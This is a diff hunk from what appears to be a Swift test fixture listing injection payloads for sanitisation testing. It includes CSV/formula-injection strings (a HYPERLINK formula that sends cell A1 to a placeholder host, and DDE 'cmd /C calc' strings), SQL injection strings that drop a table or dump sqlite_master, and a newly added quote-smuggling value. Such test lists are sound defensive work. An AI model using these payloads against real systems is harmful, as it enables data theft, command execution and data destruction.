@@ -22,6 +22,7 @@ struct Payload: Sendable {
         Payload(name: "hyperlink", text: "=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")"),
         Payload(name: "plus", text: "+1+1"), Payload(name: "minus", text: "-2+3+cmd|' /C calc'!A0"),
         Payload(name: "at", text: "@SUM(1+1)*cmd|' /C calc'!A0"), Payload(name: "tab", text: "\t=1+1"),
+        Payload(name: "accent", text: "x\"\u{301},=1+1,\"\u{301} level=\u{301}x"),
         Payload(name: "sql", text: "Robert'); DROP TABLE document;--"),
         Payload(name: "union", text: "' UNION SELECT sql FROM sqlite_master --"),
         Payload(name: "query", text: "NEAR(a b, 5) AND NOT \"c* OR col:x ^y"),
